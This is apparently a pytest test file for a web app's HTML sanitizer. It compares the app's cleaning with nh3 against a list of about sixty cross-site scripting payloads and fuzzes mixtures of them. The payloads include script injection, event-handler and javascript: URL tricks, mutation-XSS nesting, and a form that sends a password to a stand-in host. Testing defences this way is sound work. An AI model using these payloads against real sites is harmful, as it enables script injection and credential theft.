"""Cleaning of text from outside, checked against nh3 on a corpus of attacks."""

import ast
import re
import unicodedata
from collections import Counter

import nh3
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from core.sanitizing import (
    ALLOWED_TAGS,
    MOST_CHARACTERS,
    MOST_TAGS,
    UNWANTED,
    TextTooLong,
    clean_plain,
    clean_rich,
)
from tests.architecture.source import ROOT, place, python_files, tree

ATTRIBUTES = {
    "a": {"href"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<<b>script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    '<svg><p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
    'alert(1)&gt;">',
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) '
    'src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img src='</noembed><img src=x onerror=alert(1)>'>",
    '<textarea><img src="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a href="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><script>alert(1)</script>">',
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/ucet/odhlasit/">x</a>',
    '<a href="https://a.cz" target="_blank" onclick="alert(1)" style="position:fixed">x</a>',
    '<a href="https://a.cz/"onmouseover="alert(1)">x</a>',
    '<a href="https://a.cz/\'onclick=alert(1)//">x</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
    '<td colspan="99999999">x</td>',
    '<b id="x" class="y" data-z="1" contenteditable>x</b>',
    "<p/onclick=alert(1)>x",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '"><script>alert(1)</script>',
    "\u202e<script>alert(1)</script>",
    "&#x202e;abc&#0;&#x1;",
    "</p></div></body></html><script>alert(1)</script>",
]
TOKENS = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from(re.findall(r"<[^<>]*>?|[^<>]+", "".join(ATTACKS))),
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<ul>",
            "<li>",
            "</ul>",
            "<table>",
            "<td>",
            "</table>",
            "<a>",
            "</a>",
        ]
    ),
    st.text(max_size=5),
)
SOUP = st.lists(TOKENS, max_size=12).map("".join)


def elements(markup: str) -> Counter:
    return Counter(
        (element.name, tuple(sorted((k, str(v)) for k, v in element.attrs.items() if k != "rel")))
        for element in BeautifulSoup(markup, "html.parser").find_all()
    )


def cleaned_by_nh3(markup: str) -> str:
    return nh3.clean(
        markup,
        tags=set(ALLOWED_TAGS),
        attributes=ATTRIBUTES,
        url_schemes={"http", "https", "mailto", "tel"},
        link_rel="noopener nofollow",
        clean_content_tags={"script", "style"},
    )


def text(markup: str) -> str:
    return BeautifulSoup(markup, "html.parser").get_text()


def assert_nh3_finds_nothing_to_remove(markup: str) -> None:
    again = cleaned_by_nh3(markup)
    assert elements(again) == elements(markup)
    assert text(again) == text(markup)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_nothing_that_nh3_would_remove(attack):
    for markup in (attack, f"<p>Před {attack} po</p>", f"<ul><li>{attack}</li></ul>"):
        cleaned = clean_rich(markup)
        assert_nh3_finds_nothing_to_remove(cleaned)
        assert {name for name, _ in elements(cleaned)} <= ALLOWED_TAGS


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_keep_no_more_elements_than_nh3_keeps(attack):
    """Both drop the same: what we keep, nh3 keeps as well (b is our strong)."""
    ours = elements(clean_rich(attack))
    theirs = elements(cleaned_by_nh3(attack.replace("<b", "<strong")))
    # nh3 also drops an empty table inside a dropped formula.
    assert set(ours) - {("table", ())} <= set(theirs)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_no_markup_in_plain_text(attack):
    assert not re.search(r"<[a-zA-Z/!?]", clean_plain(f"Před {attack}"))
    assert clean_plain(f"Před {attack}").startswith("Před")


@given(SOUP)
def test_any_mixture_of_attacks_is_clean(markup):
    assert_nh3_finds_nothing_to_remove(clean_rich(markup))


@given(SOUP)
def test_clean_html_comes_back_unchanged(markup):
    cleaned = clean_rich(markup)
    assert clean_rich(cleaned) == cleaned


@given(SOUP)
def test_clean_text_comes_back_unchanged_and_without_markup(markup):
    cleaned = clean_plain(markup)
    assert clean_plain(cleaned) == cleaned
    assert not re.search(r"<[a-zA-Z/!?]", cleaned)
    assert not UNWANTED.search(cleaned)
    assert "\r" not in cleaned
    assert unicodedata.normalize("NFC", cleaned) == cleaned


@pytest.mark.parametrize(
    ("given_html", "expected"),
    [
        pytest.param(
            "<p>Byty <b>pro</b> <i>všechny</i><br>hned</p><ul><li>a</li></ul>",
            "<p>Byty <strong>pro</strong> <em>všechny</em><br>hned</p><ul><li>a</li></ul>",
            id="what people write stays",
        ),
        pytest.param(
            "<p>a<script>alert('kód')</script><style>p{}</style>b</p>",
            "<p>ab</p>",
            id="code vanishes with its content",
        ),
        pytest.param(
            '<div class="x"><span>slova</span> zůstanou</div>',
            "slova zůstanou",
            id="unknown elements are unwrapped",
        ),
        pytest.param(
            '<a href="https://ostrava.cz/?a=1&b=2" target="_blank">odkaz</a>',
            '<a href="https://ostrava.cz/?a=1&amp;b=2" rel="noopener nofollow">odkaz</a>',
            id="links",
        ),
        pytest.param(
            '<a href="mailto:bydleni@a.cz">m</a> <a href="tel:+420599">t</a>',
            '<a href="mailto:bydleni@a.cz" rel="noopener nofollow">m</a> '
            '<a href="tel:+420599" rel="noopener nofollow">t</a>',
            id="mail and telephone",
        ),
        pytest.param('<a href="/x/">a</a><a>b</a>', "ab", id="links without a good address"),
        pytest.param(
            '<table><tr><th scope="col" style="x">A</th><td colspan="2">1</td></tr></table>',
            '<table><tbody><tr><th scope="col">A</th><td colspan="2">1</td></tr></tbody></table>',
            id="tables",
        ),
        pytest.param("nájem < 5 000 & více", "nájem &lt; 5 000 &amp; více", id="plain signs"),
        pytest.param("e\u0301\u200b\u00ad\u202ex", "éx", id="invisible characters"),
        pytest.param("👩\u200d👧", "👩\u200d👧", id="joined emoji stay"),
        pytest.param("", "", id="nothing"),
    ],
)
def test_rich_text(given_html, expected):
    assert clean_rich(given_html) == expected


@pytest.mark.parametrize(
    ("given_text", "expected"),
    [
        ("Nájem < 5 000 Kč & energie > 2 000 Kč", "Nájem < 5 000 Kč & energie > 2 000 Kč"),
        ("<b>Byt</b> a <i>dům</i>", "Byt a dům"),
        ("a<script>alert(1)</script>b", "ab"),
        ("psáno &lt;script&gt; a &amp;", "psáno &lt;script&gt; a &amp;"),
        ("řádek\r\ndruhý\rtřetí", "řádek\ndruhý\ntřetí"),
        ("  \x00mezery\x07 \n", "mezery"),
        ("ty\u0301m \u202eobráceně", "tým obráceně"),
        ("x <3 y, 1<2", "x <3 y, 1<2"),
    ],
)
def test_plain_text(given_text, expected):
    assert clean_plain(given_text) == expected


def test_a_megabyte_of_words_is_cleaned():
    words = "slovo " * (MOST_CHARACTERS // 6)
    assert clean_rich(words) == words.strip()
    assert clean_plain(words) == words.strip()


@pytest.mark.parametrize("clean", [clean_rich, clean_plain])
@pytest.mark.parametrize("text", ["x" * (MOST_CHARACTERS + 1), "<b>" * (MOST_TAGS + 1)])
def test_longer_text_and_denser_markup_are_refused(clean, text):
    with pytest.raises(TextTooLong):
        clean(text)


def test_nothing_else_calls_bleach():
    others = [path for folder in ("benchmarks", "tests") for path in (ROOT / folder).rglob("*.py")]
    callers = set()
    for path in (*python_files(migrations=True), *others, ROOT / "manage.py"):
        if "bleach" not in path.read_text():
            continue
        for node in ast.walk(tree(path)):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            if any(name.split(".")[0] == "bleach" for name in names):
                callers.add(place(path))
    assert callers == {"core/sanitizing.py"}
